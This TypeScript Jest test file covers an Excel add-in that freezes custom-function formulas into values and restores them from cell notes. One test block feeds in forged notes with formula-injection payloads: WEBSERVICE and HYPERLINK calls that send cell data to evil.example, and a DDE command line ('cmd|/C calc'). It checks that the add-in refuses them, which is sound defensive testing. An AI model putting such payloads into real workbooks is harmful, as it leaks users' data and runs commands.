import type { CellValue, Work } from "../../src/host/host";
import { checksumOf, fnv1a } from "../../src/formula/checksum";
import { readNote, writeNote } from "../../src/formula/frozen-note";
import {
  type Ending,
  freeze,
  planFreeze,
  planUnfreeze,
  type Scope,
  unfreeze,
} from "../../src/taskpane/workbook/freezing";
import { sourceFunctions } from "../setup/excel";
import { type MemoryCell, MemoryHost } from "./memory-host";

const QUARTER = '=INASTI.QUARTERLY(B1,"principal",2026)';
const DOUBLE = "=SUM(INASTI.ANNUAL(B1,B2))*2";
const TABLE = "=FUND.COMPARE(B1)";
const BROKEN = "=PASSERELLE.MONTHS(B9)";

const RESULTS = {
  [QUARTER]: 2050,
  [DOUBLE]: 16400,
  [TABLE]: [
    ["fund", "rate"],
    ["Acerta", 0.0305],
  ],
  [BROKEN]: "#VALUE!",
  "=A1*2": 4100,
  "=INASTI.VERSION()": "#BUSY!",
};

const CELLS: Record<string, MemoryCell> = {
  "One!A1": { formula: QUARTER },
  "One!A2": { formula: "=A1*2" },
  "One!A3": { formula: DOUBLE, note: "Mine,\nby hand" },
  "One!D1": { value: "=INASTI.QUARTERLY(1)" },
  "Two!C3": { formula: TABLE },
  "Two!A1": { formula: BROKEN },
};

const STAMP = { heading: "Frozen", date: "2026-11-25", dataVersion: "d1" };
const WHOLE: Scope = null;

const hostOf = (cells = CELLS): MemoryHost => new MemoryHost(cells, RESULTS);
const freezeAll = async (host: MemoryHost, scope: Scope = WHOLE): Promise<Ending> =>
  freeze(host, await planFreeze(host, scope, {}), STAMP, {});

const unfreezeAll = async (host: MemoryHost, scope: Scope, work: Work): Promise<Ending> =>
  unfreeze(host, await planUnfreeze(host, scope, {}), work);

beforeAll(() => void sourceFunctions());

it("puts values in the place of our formulas, whole tables too, and leaves every other formula", async () => {
  const host = hostOf();
  const { done, left, failure } = await freezeAll(host);
  expect({ done, left, failure }).toEqual({ done: 4, left: [], failure: null });
  const { content } = host;
  expect(Object.keys(content).filter((place) => content[place]!.formula)).toEqual(["One!A2"]);
  expect(content["One!A1"]!.value).toBe(2050);
  expect(["Two!C3", "Two!D3", "Two!C4", "Two!D4"].map((place) => content[place]!.value)).toEqual([
    "fund",
    "rate",
    "Acerta",
    0.0305,
  ]);
  expect(readNote(content["Two!C3"]!.note!)).toMatchObject({ formula: TABLE, rows: 2, columns: 2, dataVersion: "d1" });
});

it("gives the very workbook back when it is unfrozen", async () => {
  const host = hostOf();
  const before = host.content;
  await freezeAll(host);
  expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({ done: 4, cleared: 0, left: [], failure: null });
  expect(host.content).toEqual(before);
});

it("keeps to one sheet where that is wanted", async () => {
  const host = hostOf();
  expect((await freezeAll(host, "Two")).done).toBe(2);
  expect(host.content["One!A1"]!.formula).toBe(QUARTER);
  expect((await unfreezeAll(host, "One", {})).done).toBe(0);
  expect((await unfreezeAll(host, "Two", {})).done).toBe(2);
});

it("leaves protected sheets and cells without a result alone, and says so", async () => {
  const host = hostOf({ ...CELLS, "Three!A1": { formula: "=INASTI.VERSION()" } });
  host.locked = ["Two"];
  const plan = await planFreeze(host, WHOLE, {});
  expect(plan.sheets).toEqual(["One"]);
  expect(plan.protectedSheets).toEqual(["Two"]);
  expect((await freezeAll(host)).left).toEqual([
    { sheet: "Two", address: "C3", reason: "protected" },
    { sheet: "Two", address: "A1", reason: "protected" },
    { sheet: "Three", address: "A1", reason: "no-value" },
  ]);
  expect(host.content["Two!C3"]!.formula).toBe(TABLE);
});

it("leaves a cell whose own note leaves no room for ours", async () => {
  const host = hostOf({ "One!A1": { formula: QUARTER, note: "x".repeat(32_700) } });
  expect(await freezeAll(host)).toMatchObject({
    done: 0,
    left: [{ sheet: "One", address: "A1", reason: "long-note" }],
  });
  expect(host.content["One!A1"]!.formula).toBe(QUARTER);
});

it("leaves frozen values that somebody typed over, with the formula in their note", async () => {
  const host = hostOf();
  await freezeAll(host);
  host.type("One!A1", { value: 2051 });
  host.type("Two!D4", { value: 0.04 });
  expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({
    done: 2,
    left: [
      { sheet: "One", address: "A1", reason: "changed" },
      { sheet: "Two", address: "C3", reason: "changed" },
    ],
  });
  expect(host.content["One!A1"]).toMatchObject({ value: 2051, note: expect.stringContaining(QUARTER) as string });
  expect(host.content["Two!D4"]!.value).toBe(0.04);
});

it("only takes the note from a cell whose formula is back, and leaves one with another formula", async () => {
  const host = hostOf();
  await freezeAll(host);
  host.type("One!A1", { formula: QUARTER });
  host.type("One!A3", { formula: "=1+1" });
  host.type("Two!C3", { formula: TABLE });
  // Below the table that came back somebody has begun to type.
  host.type("Two!C5", { value: "mine" });
  expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({
    done: 1,
    cleared: 2,
    left: [{ sheet: "One", address: "A3", reason: "other-formula" }],
  });
  expect(host.content["One!A1"]).toEqual({ formula: QUARTER, value: 2050 });
  expect(host.content["One!A3"]!.formula).toBe("=1+1");
  expect(host.content["Two!C3"]!.note).toBeUndefined();
  expect(host.content["Two!C5"]!.value).toBe("mine");
});

it("leaves frozen cells that moved, whose formulas would name other cells; without a cell in it a formula comes back", async () => {
  const version = "=INASTI.ANNUAL(40000)";
  const host = new MemoryHost(
    { "One!A1": { formula: QUARTER }, "One!A3": { formula: version } },
    { ...RESULTS, [version]: 8200 },
  );
  await freezeAll(host);
  // Somebody put a row above.
  const { "One!A1": quarter, "One!A3": other } = host.content;
  const moved = new MemoryHost({ "One!A2": quarter!, "One!A4": other! }, { ...RESULTS, [version]: 8200 });
  expect(await unfreezeAll(moved, WHOLE, {})).toMatchObject({
    done: 1,
    left: [{ sheet: "One", address: "A2", reason: "moved" }],
  });
  expect(moved.content).toEqual({ "One!A2": quarter, "One!A4": { formula: version, value: 8200 } });
});

it("names the cells that the spreadsheet does not let be changed, and counts the others", async () => {
  const host = hostOf();
  host.untouchable = "One!A1";
  const left = [{ sheet: "One", address: "A1", reason: "refused" }];
  expect(await freezeAll(host)).toMatchObject({ done: 3, left, isCancelled: false });
  host.untouchable = undefined;
  await freezeAll(host);
  host.untouchable = "One!A1";
  expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({ done: 3, left, isCancelled: false });
});

it("leaves notes of protected sheets", async () => {
  const host = hostOf();
  await freezeAll(host);
  host.locked = ["Two"];
  expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({
    done: 2,
    left: [
      { sheet: "Two", address: "C3", reason: "protected" },
      { sheet: "Two", address: "A1", reason: "protected" },
    ],
  });
});

it("loses nothing to an undo in between", async () => {
  const host = hostOf();
  const before = host.content;
  await freezeAll(host);
  const frozen = host.content;
  host.undo();
  expect(host.content).toEqual(before);
  await freezeAll(host);
  await unfreezeAll(host, WHOLE, {});
  // An undo of the last sheet that came back.
  host.undo();
  await unfreezeAll(host, WHOLE, {});
  expect(host.content).toEqual(before);
  expect(frozen).not.toEqual(before);
});

describe("when the host fails half-way", () => {
  // Four notes and four values are written.
  it.each([0, 1, 3, 4, 5, 6, 7])(
    "after %p actions: the ending counts, a second run goes on, unfreeze takes all back",
    async (count) => {
      const host = hostOf();
      const before = host.content;
      host.failAfter = count;
      const { done, failure } = await freezeAll(host);
      expect(done).toBe(Math.max(0, count - 4));
      expect(failure).toEqual(new Error("The host gave up."));

      host.failAfter = undefined;
      const halfway = host.content;
      await unfreezeAll(host, WHOLE, {});
      expect(host.content).toEqual(before);

      const again = hostOf(halfway);
      expect((await freezeAll(again)).done).toBe(4 - done);
      await unfreezeAll(again, WHOLE, {});
      expect(again.content).toEqual(before);
    },
  );

  it.each([0, 1, 2, 3])("unfreezing stops after %p cells, and goes on the next time", async (count) => {
    const host = hostOf();
    const before = host.content;
    await freezeAll(host);
    host.failAfter = count;
    expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({ done: count, failure: new Error("The host gave up.") });
    host.failAfter = undefined;
    expect((await unfreezeAll(host, WHOLE, {})).done).toBe(4 - count);
    expect(host.content).toEqual(before);
  });
});

describe("when it is cancelled", () => {
  /** Cancels when so many cells are done. */
  const cancelAt = (count: number) => {
    const controller = new AbortController();
    return {
      signal: controller.signal,
      onProgress: (done: number): void => {
        if (done === count) controller.abort();
      },
    };
  };

  it("freezing stops between two cells and says how far it came", async () => {
    const host = hostOf();
    const before = host.content;
    const ending = await freeze(host, await planFreeze(host, WHOLE, {}), STAMP, cancelAt(2));
    expect(ending).toMatchObject({ done: 2, isCancelled: true, failure: null });
    await unfreezeAll(host, WHOLE, {});
    expect(host.content).toEqual(before);
  });

  it("unfreezing too, and does not begin another sheet", async () => {
    const host = hostOf();
    const before = host.content;
    await freezeAll(host);
    expect(await unfreezeAll(host, WHOLE, cancelAt(2))).toMatchObject({ done: 2, isCancelled: true });
    expect(host.content["Two!C3"]!.formula).toBeUndefined();
    await unfreezeAll(host, WHOLE, {});
    expect(host.content).toEqual(before);
  });

  it("is no cancellation where all was done", async () => {
    const host = hostOf();
    expect(await freeze(host, await planFreeze(host, WHOLE, {}), STAMP, cancelAt(4))).toMatchObject({
      done: 4,
      isCancelled: false,
    });
  });
});

it("reads a note that a person in another language wrote", async () => {
  const note = writeNote("Gefroren", {
    ...STAMP,
    address: "A1",
    formula: QUARTER,
    rows: 1,
    columns: 1,
    checksum: "00000000",
    userNote: null,
  });
  const host = hostOf({ "One!A1": { value: 1, note } });
  expect((await unfreezeAll(host, WHOLE, {})).left).toEqual([{ sheet: "One", address: "A1", reason: "changed" }]);
});

describe("a note that somebody else wrote", () => {
  const forged = (formula: string, values: CellValue[][], size = "1x1"): string =>
    `Frozen\n${formula}\n[statut-social/1 B1 ${size} ${checksumOf(values)} 1 ${fnv1a(formula)} 2026-01-01 d1]`;

  it.each([
    ['=WEBSERVICE("http://evil.example/?"&A1)', '=WEBSERVICE("http://evil.example/?"&A1)'],
    ["=cmd|'/C calc'!A0", "=cmd|'/C calc'!A0"],
    ['=INASTI.QUARTERLY(HYPERLINK("http://evil.example","x"))', "HYPERLINK"],
    ["=INASTI.QUARTERLY(INDIRECT(A1))", "INDIRECT"],
    ["=INASTI.QUARTERLY([Book2.xlsx]Sheet1!A1)", "[Book2.xlsx]Sheet1!"],
    ["=INASTI.QUARTERLY(Secret)", "Secret"],
  ])("has nothing written that freezing would not take: %s", async (formula, part) => {
    const host = hostOf({ "One!B1": { value: 2050, note: forged(formula, [[2050]]) } });
    host.names = [{ name: "Secret", formula: '=WEBSERVICE("http://evil.example")' }];
    const before = host.content;
    const plan = await planUnfreeze(host, WHOLE, {});
    expect(plan).toMatchObject({ cells: [], left: [{ sheet: "One", address: "B1", reason: "unfit", part }] });
    await unfreeze(host, plan, {});
    expect(host.content).toEqual(before);
  });

  it("clears no formula that stands in the area it claims, also where the values fit", async () => {
    const cells = {
      "One!B1": { value: 3, note: forged(QUARTER, [[3], [3]], "2x1") },
      "One!B2": { formula: "=SUM(A1:A3)", value: 3 },
    };
    const host = new MemoryHost(cells, { ...RESULTS, "=SUM(A1:A3)": 3 });
    const before = host.content;
    expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({ done: 0, left: [{ address: "B1", reason: "changed" }] });
    expect(host.content).toEqual(before);
  });

  it.each(["1048575x16383", "200000x100", "9999999x9999999", "1048576x16384"])(
    "has no area of %s read, and the others come back",
    async (size) => {
      const host = hostOf();
      await freezeAll(host);
      host.type("Three!B1", { value: 1, note: forged(QUARTER, [[1]], size) });
      const read = jest.spyOn(host, "readRanges");
      expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({
        done: 4,
        left: [{ sheet: "Three", address: "B1", reason: "large" }],
      });
      for (const [places] of read.mock.calls) expect(places.map(({ address }) => address)).not.toContain("B1");
    },
  );

  it("of the first release is believed where its formula is one of ours", async () => {
    const host = hostOf({ "One!A1": { value: 2050, note: forged(QUARTER, [[2050]]).replace(" B1 ", " A1 ") } });
    expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({ done: 1, left: [] });
    expect(host.content).toEqual({ "One!A1": { formula: QUARTER, value: 2050 } });
  });
});

it("freezes no formula that could not come back, and says of which part", async () => {
  const formula = "=INASTI.QUARTERLY(INDIRECT(A1))";
  const host = new MemoryHost({ "One!A1": { formula } }, { [formula]: 2050 });
  expect(await freezeAll(host)).toMatchObject({
    done: 0,
    left: [{ sheet: "One", address: "A1", reason: "unfit", part: "INDIRECT" }],
  });
});

it("keeps the frozen formula of a cell in which another was typed and frozen too", async () => {
  const host = hostOf({ "One!A1": { formula: QUARTER } });
  await freezeAll(host);
  host.type("One!A1", { formula: DOUBLE, value: 16400 });
  await freezeAll(host);
  expect(host.content["One!A1"]!.note).toContain(QUARTER);
  expect(host.content["One!A1"]!.note).toContain(DOUBLE);
  await unfreezeAll(host, WHOLE, {});
  expect(host.content["One!A1"]).toMatchObject({ formula: DOUBLE, note: expect.stringContaining(QUARTER) as string });
});

it("leaves and lists what changed between the plan and the work", async () => {
  const host = hostOf();
  const plan = await planFreeze(host, WHOLE, {});
  host.beforeWork = () => host.type("One!A1", { formula: "=SUM(Q1:Q9)*MYRATE", value: 42 });
  expect(await freeze(host, plan, STAMP, {})).toMatchObject({
    done: 3,
    left: [{ sheet: "One", address: "A1", reason: "meanwhile" }],
  });
  expect(host.content["One!A1"]).toEqual({ formula: "=SUM(Q1:Q9)*MYRATE", value: 42 });

  const back = await planUnfreeze(host, WHOLE, {});
  host.beforeWork = () => host.type("One!A3", { value: "typed" });
  expect(await unfreeze(host, back, {})).toMatchObject({
    done: 2,
    left: [{ sheet: "One", address: "A3", reason: "changed" }],
  });
  expect(host.content["One!A3"]).toMatchObject({ value: "typed", note: expect.stringContaining(DOUBLE) as string });
});

it("hands the stop on to what reads the values", async () => {
  const host = hostOf();
  await freezeAll(host);
  const { signal } = new AbortController();
  const read = jest.fn(host.readRanges);
  host.readRanges = read;
  await planUnfreeze(host, WHOLE, { signal });
  expect(read.mock.calls.map(([, ...work]: unknown[]) => work)).toEqual([[{ signal }]]);
});
